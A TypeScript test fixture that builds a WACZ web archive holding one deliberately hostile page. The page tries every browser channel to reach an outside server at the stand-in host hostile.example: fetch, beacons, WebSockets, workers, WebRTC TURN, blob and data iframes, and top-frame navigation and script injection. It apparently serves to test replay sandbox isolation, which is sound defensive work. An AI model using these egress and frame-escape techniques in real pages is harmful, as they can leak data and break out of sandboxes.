/** An archive whose one page tries by every way a page has to reach a server outside. Invented and innocuous but for that. */
import { createHash } from 'node:crypto'
import { writeZip, zipInput } from '@smart-rescue/core/dossier'

/** Address of the archived page. */
export const HOSTILE_URL = 'http://hostile.example/'

/** Ways to lead a frame or the window away; each is tried on a page of its own, because it ends the page. */
export const LEAVING = [
  'open',
  'topOpen',
  'form',
  'links',
  'blankLink',
  'topLocation',
  'parentLocation',
  'location',
] as const
/** One of them. */
export type Leaving = (typeof LEAVING)[number]

/** The page alone: each way names itself in the path it asks for, so that a hit says which way got out. With `leave` it tries that one way out, else all the requests a page can make. */
export const writeHostilePage = (outside: string, leave?: Leaving): string => {
  const to = (way: string) => `${outside}/${way}`
  const socket = outside.replace('http:', 'ws:')
  return `<!doctype html><html><head><title>Hostile</title>
<link rel="stylesheet" href="${to('stylesheet')}"><link rel="prefetch" href="${to('prefetch')}">
<link rel="preload" as="script" href="${to('preload')}"><link rel="icon" href="${to('icon')}">
<link rel="modulepreload" href="${to('modulepreload')}"><link rel="preconnect" href="${to('preconnect')}">
<link rel="manifest" href="${to('manifest')}"><link rel="prerender" href="${to('prerender')}">
<style>@import url(${to('css-import')}); @font-face { font-family: x; src: url(${to('font')}) } h1 { font-family: x; background: url(${to('css-image')}) }</style>
<script src="${to('script')}"></script></head><body>
<h1>Room to let</h1><img src="${to('img')}"><img srcset="${to('srcset')} 2x"><video src="${to('video')}" poster="${to('poster')}" autoplay muted></video>
<audio src="${to('audio')}" autoplay></audio>
<iframe src="${to('frame')}"></iframe><iframe srcdoc="<img src='${to('srcdoc')}'><script>fetch('${to('srcdoc-fetch')}')</script>"></iframe>
<svg><image href="${to('svg-image')}"/><use href="${to('svg-use')}#a"/></svg>
<form id="f" method="post" action="${to('form')}"><input name="a" value="b"></form><a id="a" href="${to('link')}" ping="${to('ping')}">x</a>
<a id="b" href="${to('blank')}" target="_blank">x</a><a id="t" href="${to('top')}" target="_top">x</a>
<script>
const peer = (w) => { const r = new w.RTCPeerConnection({ iceServers: [{ urls: 'turn:${outside.slice(7)}?transport=tcp', username: 'a', credential: 'b' }] }); r.createDataChannel('x'); r.createOffer().then((o) => r.setLocalDescription(o)) }
const leaving = {
  open: () => window.open('${to('open')}'),
  topOpen: () => top.open('${to('top-open')}'),
  form: () => document.getElementById('f').submit(),
  links: () => { for (const id of ['a', 'b', 't']) document.getElementById(id).click() },
  blankLink: () => { const f = document.createElement('iframe'); document.body.append(f); const d = f.contentDocument; const a = d.createElement('a'); a.href = '${to('native-top')}'; a.target = '_top'; d.body.append(a); a.click(); const g = d.createElement('form'); g.action = '${to('native-form')}'; g.method = 'post'; d.body.append(g); g.submit() },
  topLocation: () => { top.location.href = '${to('top-location')}' },
  parentLocation: () => { parent.location.href = '${to('parent-location')}' },
  location: () => { location.href = '${to('location')}' },
}
const asking = {
  fetch: () => fetch('${to('fetch')}', { mode: 'no-cors' }),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', '${to('xhr')}'); x.send() },
  beacon: () => navigator.sendBeacon('${to('beacon')}', 'x'),
  websocket: () => new WebSocket('${socket}/websocket'),
  eventsource: () => new EventSource('${to('eventsource')}'),
  image: () => { new Image().src = '${to('new-image')}' },
  importing: () => import('${to('import')}'),
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('${to('worker-fetch')}',{mode:'no-cors'});new WebSocket('${socket}/worker-websocket');importScripts('${to('worker-import')}')"]))),
  shared: () => new SharedWorker('${to('shared-worker')}'),
  own: () => navigator.serviceWorker.register('${to('service-worker')}'),
  blankFetch: () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('${to('blank-fetch')}', { mode: 'no-cors' }); new f.contentWindow.WebSocket('${socket}/blank-websocket'); const i = new f.contentWindow.Image(); i.src = '${to('blank-image')}' },
  blobFrame: () => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>fetch('${to('blob-fetch')}',{mode:'no-cors'});location='${to('blob-location')}'<\\/script>"], { type: 'text/html' })); document.body.append(f) },
  dataFrame: () => { const f = document.createElement('iframe'); f.src = "data:text/html,<script>fetch('${to('data-fetch')}',{mode:'no-cors'});new WebSocket('${socket}/data-websocket');location='${to('data-location')}'<\\/script>"; document.body.append(f) },
  blankLocation: () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location.href = '${to('blank-location')}' },
  rtc: () => peer(window),
  rtcBlank: () => { const f = document.createElement('iframe'); document.body.append(f); peer(f.contentWindow) },
  rtcMarkup: () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<iframe></iframe>'; peer(window[window.length - 1]) },
  rtcNested: () => { const f = document.createElement('iframe'); document.body.append(f); const g = f.contentDocument.createElement('iframe'); f.contentDocument.body.append(g); peer(g.contentWindow) },
  rtcSrcdoc: () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<iframe srcdoc="<script>(' + String(peer).replaceAll('"', '&quot;') + ')(window)<' + '/script>"></iframe>' },
  rtcData: () => { const f = document.createElement('iframe'); f.src = 'data:text/html,<script>(' + encodeURIComponent(String(peer)) + ')(window)<' + '/script>'; document.body.append(f) },
  parents: () => { for (const w of [parent, top]) { w.fetch('${to('parent-fetch')}', { mode: 'no-cors' }); new w.WebSocket('${socket}/parent-websocket'); const i = new w.Image(); i.src = '${to('parent-image')}' } },
  parentScript: () => { const s = top.document.createElement('script'); s.src = '${to('parent-script')}'; top.document.head.append(s); const f = top.document.createElement('iframe'); f.src = '${to('parent-frame')}'; top.document.body.append(f) },
}
const chosen = ${JSON.stringify(leave ?? '')}
const tries = chosen === '' ? asking : { [chosen]: leaving[chosen] }
let n = 0
for (const [name, run] of Object.entries(tries)) setTimeout(() => { console.log('tried ' + name); try { const r = run(); if (r && r.catch) r.catch(() => {}) } catch {} }, 30 * n++)
</script>
<object data="${to('object')}"></object><embed src="${to('embed')}"></body></html>`
}

const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

/** The archive (WACZ 1.1.1, one WARC record). `outside` is scheme, host and port of the server to be reached. */
export const writeHostileArchive = async (outside: string, leave?: Leaving): Promise<Uint8Array> => {
  const page = Buffer.from(writeHostilePage(outside, leave))
  const http = Buffer.concat([
    Buffer.from(
      `HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nRefresh: 1; url=${outside}/refresh\r\nLink: <${outside}/link-header>; rel=preload; as=image\r\nContent-Length: ${page.length}\r\n\r\n`,
    ),
    page,
  ])
  const head = [
    'WARC/1.1',
    'WARC-Type: response',
    `WARC-Target-URI: ${HOSTILE_URL}`,
    'WARC-Date: 2026-11-24T08:00:00Z',
    'WARC-Record-ID: <urn:uuid:01890000-0000-4000-8000-000000000001>',
    `WARC-Payload-Digest: sha256:${sha256(page)}`,
    'Content-Type: application/http; msgtype=response',
    `Content-Length: ${http.length}`,
  ]
  const warc = Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), http, Buffer.from('\r\n\r\n')])
  const cdx = `example,hostile)/ 20261124080000 ${JSON.stringify({ url: HOSTILE_URL, mime: 'text/html', status: '200', digest: `sha256:${sha256(page)}`, length: String(warc.length), offset: '0', filename: 'data.warc' })}\n`
  const pages = `${JSON.stringify({ format: 'json-pages-1.0', id: 'pages', title: 'All Pages' })}\n${JSON.stringify({ id: '1', url: HOSTILE_URL, ts: '2026-11-24T08:00:00Z', title: 'Hostile' })}\n`
  const files = [
    ['archive/data.warc', warc],
    ['indexes/index.cdx', Buffer.from(cdx)],
    ['pages/pages.jsonl', Buffer.from(pages)],
  ] as const
  const resources = files.map(([path, bytes]) => ({
    name: path.split('/')[1],
    path,
    hash: `sha256:${sha256(bytes)}`,
    bytes: bytes.length,
  }))
  const manifest = JSON.stringify({ profile: 'data-package', wacz_version: '1.1.1', resources })
  const all = [...files, ['datapackage.json', Buffer.from(manifest)] as const]
  const chunks: Uint8Array[] = []
  for await (const chunk of writeZip(all.map(([path, bytes]) => zipInput(path, bytes)))) chunks.push(chunk)
  return Buffer.concat(chunks)
}
